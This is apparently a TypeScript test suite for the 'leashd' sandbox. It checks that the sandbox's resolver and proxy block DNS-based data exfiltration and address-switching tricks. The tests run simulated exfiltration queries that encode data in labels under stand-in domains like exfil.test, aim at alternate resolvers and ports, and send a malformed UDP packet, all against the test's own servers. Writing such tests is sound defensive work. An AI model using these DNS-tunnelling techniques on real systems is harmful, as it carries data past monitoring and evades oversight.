/**
 * DNS as a way out, and names whose answers change: attacker programs in real sessions try to
 * carry data out in query names (any type, long labels, UDP and TCP, to leashd's resolver or
 * straight to another server), and to make the proxy dial an address other than the one it
 * checked. Every server here is the test's own, on loopback or the bridge's gateway; the
 * resolver forwards to a DNS server of the test's, so "not forwarded" is observed, not assumed.
 */
import { after, before, describe, it } from 'node:test';
import * as assert from 'node:assert/strict';
import * as crypto from 'node:crypto';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as path from 'node:path';
import { loopbackAddress, makeCertificates, Upstream } from '../proxy/upstream';
import { sandboxSkip } from '../support/env';
import { makeWorkspace, sessionOf, sleep, TestDaemon } from '../support/leashd';
import { WORKSPACE_RW } from '../support/policies';
import { DNS_CLIENT } from './dns-client';
import { DnsServer } from './dns-server';

const GATEWAY = '172.17.0.1';

const POLICY = `${WORKSPACE_RW}
@id("api")
permit (principal, action == Leash::Action::"HttpRequest", resource == Leash::Host::"api.test");

@id("turn")
permit (principal, action == Leash::Action::"HttpRequest", resource == Leash::Host::"turn.test");

@id("forwarded")
permit (principal, action == Leash::Action::"HttpRequest", resource == Leash::Host::"fwd.test");

@id("wild")
permit (principal, action == Leash::Action::"HttpRequest", resource)
when { resource.name like "*.wild.test" };
`;

describe('DNS as a channel out, and answers that change', { skip: sandboxSkip() }, () => {
  const certs = makeCertificates(['api.test', 'turn.test']);
  const apiAddress = loopbackAddress();
  const refusedAddress = loopbackAddress();
  const dnsAddress = loopbackAddress();
  const api = new Upstream();
  const refusedTrap = new Upstream();
  const forwardedTo = new DnsServer();
  const otherResolver = new DnsServer();
  const dialledTrap: string[] = [];
  const gatewayTrap = net.createServer((s) => {
    dialledTrap.push('connected');
    s.destroy();
  });
  const settingsFile = path.join(certs.dir, 'settings.json');
  let daemon: TestDaemon;

  before(async () => {
    await api.listen(apiAddress, 443, { key: certs.key, cert: certs.cert });
    await refusedTrap.listen(refusedAddress, 443, { key: certs.key, cert: certs.cert });
    const dnsPort = await forwardedTo.listen(dnsAddress);
    // Another resolver the sandbox could aim at, and what it could dial instead of the proxy.
    await otherResolver.listen(GATEWAY, 53);
    await new Promise<void>((resolve) => gatewayTrap.listen(443, GATEWAY, () => resolve()));
    fs.writeFileSync(
      settingsFile,
      JSON.stringify({
        hosts: { 'api.test': apiAddress, 'turn.test': [apiAddress, refusedAddress] },
        refuse: [refusedAddress],
        dnsServer: `${dnsAddress}:${dnsPort}`,
        upstreamCaFile: certs.caFile,
      }),
    );
    daemon = new TestDaemon(['--proxy-test-settings', settingsFile]);
    await daemon.start();
  });
  after(async () => {
    await daemon.stop();
    for (const s of [api, refusedTrap, forwardedTo, otherResolver]) s.close();
    gatewayTrap.close();
    fs.rmSync(certs.dir, { recursive: true, force: true });
  });

  /** Runs `script` (with dnsq.pl in the workspace) in a session under POLICY. */
  async function run(script: string): Promise<{ out: string; session: string }> {
    const ws = makeWorkspace({ 'policy.cedar': POLICY, 'dnsq.pl': DNS_CLIENT });
    const r = await daemon.cliAsync([
      ...['run', '--json', '--policy', path.join(ws, 'policy.cedar'), '--workspace', ws],
      ...['shell', '--', 'sh', '-c', `cd ${ws}; ${script}`],
    ]).done;
    return { out: r.stdout + r.stderr, session: sessionOf(r.stderr) };
  }

  /** One dnsq.pl line: `label server port name type over`. */
  const ask = (...args: (string | number)[]): string => `perl dnsq.pl ${args.join(' ')}`;

  const resolveDenials = (session: string): Record<string, unknown>[] =>
    daemon.events(session).filter((e) => e.action === 'Resolve' && e.decision === 'deny');

  it('answers names no policy permits NXDOMAIN and forwards none of them, however asked', async () => {
    const data = crypto.randomBytes(12).toString('hex');
    const long = [0, 1, 2].map((i) => `${i}${data}`.padEnd(63, 'x')).join('.');
    const names = {
      a: `${data}.exfil.test`,
      txt: `t${data}.exfil.test`,
      aaaa: `q${data}.exfil.test`,
      tcp: `c${data}.exfil.test`,
      long: `${long}.leak.test`,
      // Under a host a permit names exactly: the name itself is forwarded, never its children.
      under: `u${data}.fwd.test`,
    };
    // Each query aims at port 53 of the gateway, where another server listens (leashd's
    // resolver listens on a port of its own): nftables must hand them all to leashd.
    const r = await run(
      [
        ask('a', GATEWAY, 53, names.a, 'A', 'udp'),
        ask('txt', GATEWAY, 53, names.txt, 'TXT', 'udp'),
        ask('aaaa', GATEWAY, 53, names.aaaa, 'AAAA', 'udp'),
        ask('tcp', GATEWAY, 53, names.tcp, 'A', 'tcp'),
        ask('long', GATEWAY, 53, names.long, 'TXT', 'udp'),
        ask('under', GATEWAY, 53, names.under, 'A', 'udp'),
        ask('other-port', GATEWAY, 5353, `x${data}.exfil.test`, 'A', 'udp'),
        ask('other-port-tcp', GATEWAY, 853, `y${data}.exfil.test`, 'A', 'tcp'),
        `getent hosts ${names.a} || echo getent-failed`,
      ].join('; '),
    );
    for (const label of Object.keys(names)) {
      assert.match(r.out, new RegExp(`^${label} rcode=3 answers=0$`, 'm'), r.out);
    }
    assert.match(r.out, /^other-port error: Operation not permitted$/m, r.out);
    assert.match(r.out, /^other-port-tcp error: .*(not permitted|refused)/im, r.out);
    assert.match(r.out, /^getent-failed$/m);

    await sleep(300);
    assert.ok(!forwardedTo.wasAsked(data), JSON.stringify(forwardedTo.asked));
    assert.deepEqual(otherResolver.asked, [], 'the other server on port 53 heard nothing');
    const denied = resolveDenials(r.session).map((e) => e.resource);
    for (const name of Object.values(names)) assert.ok(denied.includes(name), name);
    const blocked = daemon
      .events(r.session)
      .filter((e) => e.action === 'Connect' && e.decision === 'deny')
      .map((e) => e.resource);
    assert.ok(blocked.includes(`${GATEWAY}:5353`), JSON.stringify(blocked));
    assert.ok(blocked.includes(`${GATEWAY}:853`), JSON.stringify(blocked));
  });

  it('forwards a permitted name for A and AAAA only; other types get an empty answer', async () => {
    // Garbage first: it is dropped and logged, and the resolver keeps answering.
    const garbage =
      `perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(PeerAddr => "${GATEWAY}", ` +
      `PeerPort => 53, Proto => "udp") or die $!; send($s, "\\xff" x 300, 0) or die $!'`;
    const r = await run(
      [
        garbage,
        ask('a', GATEWAY, 53, 'fwd.test', 'A', 'udp'),
        ask('txt', GATEWAY, 53, 'fwd.test', 'TXT', 'udp'),
        ask('txt-tcp', GATEWAY, 53, 'fwd.test', 'TXT', 'tcp'),
      ].join('; '),
    );
    assert.match(r.out, /^a rcode=0 answers=1$/m, r.out);
    assert.match(r.out, /^txt rcode=0 answers=0$/m, r.out);
    assert.match(r.out, /^txt-tcp rcode=0 answers=0$/m, r.out);
    assert.match(daemon.log, /"msg":"malformed DNS query"/);
    const asked = forwardedTo.asked.filter((q) => q.name === 'fwd.test');
    assert.deepEqual(
      asked.map((q) => q.type),
      [1],
      'only the A question left',
    );
  });

  it('limitation: names under a wildcard host permit reach the name servers', async () => {
    // `resource.name like "*.wild.test"` lets the sandbox resolve any name under wild.test, so
    // the servers for wild.test see what it puts in the labels (docs/threat-model.md).
    const data = crypto.randomBytes(12).toString('hex');
    const r = await run(ask('wild', GATEWAY, 53, `${data}.wild.test`, 'A', 'udp'));
    assert.match(r.out, /^wild rcode=0 answers=1$/m, r.out);
    assert.ok(forwardedTo.wasAsked(`${data}.wild.test`));
  });

  it('dials only what the proxy resolved for the judged name, one resolution per request', async () => {
    // turn.test answers the upstream's address, then an address the proxy must refuse, in
    // turn. The sandbox dials the gateway's port 443 by address, where a trap listens.
    const get = (p: string): string =>
      `printf 'GET ${p} HTTP/1.1\\r\\nHost: turn.test\\r\\nConnection: close\\r\\n\\r\\n' | ` +
      `openssl s_client -quiet -connect ${GATEWAY}:443 -servername turn.test 2>&1; echo; echo ===`;
    const before = api.seen.length;
    const r = await run(
      `getent hosts turn.test; ${get('/first')}; ${get('/second')}; ${get('/third')}`,
    );
    const [first, second, third] = r.out.split('===');
    assert.match(r.out, new RegExp(`^${GATEWAY.replaceAll('.', '\\.')}\\s+turn\\.test$`, 'm'));
    assert.match(first ?? '', /"url":"\/first"/, r.out);
    assert.match(second ?? '', /HTTP\/1.1 502/, r.out);
    assert.match(second ?? '', /resolves only to addresses the proxy never connects to/);
    assert.match(third ?? '', /"url":"\/third"/, r.out);
    assert.deepEqual(
      api.seen.slice(before).map((s) => s.url),
      ['/first', '/third'],
    );
    assert.deepEqual(refusedTrap.seen, [], 'the refused address was never dialled');
    assert.deepEqual(dialledTrap, [], 'the address the sandbox dialled was never reached');
  });
});
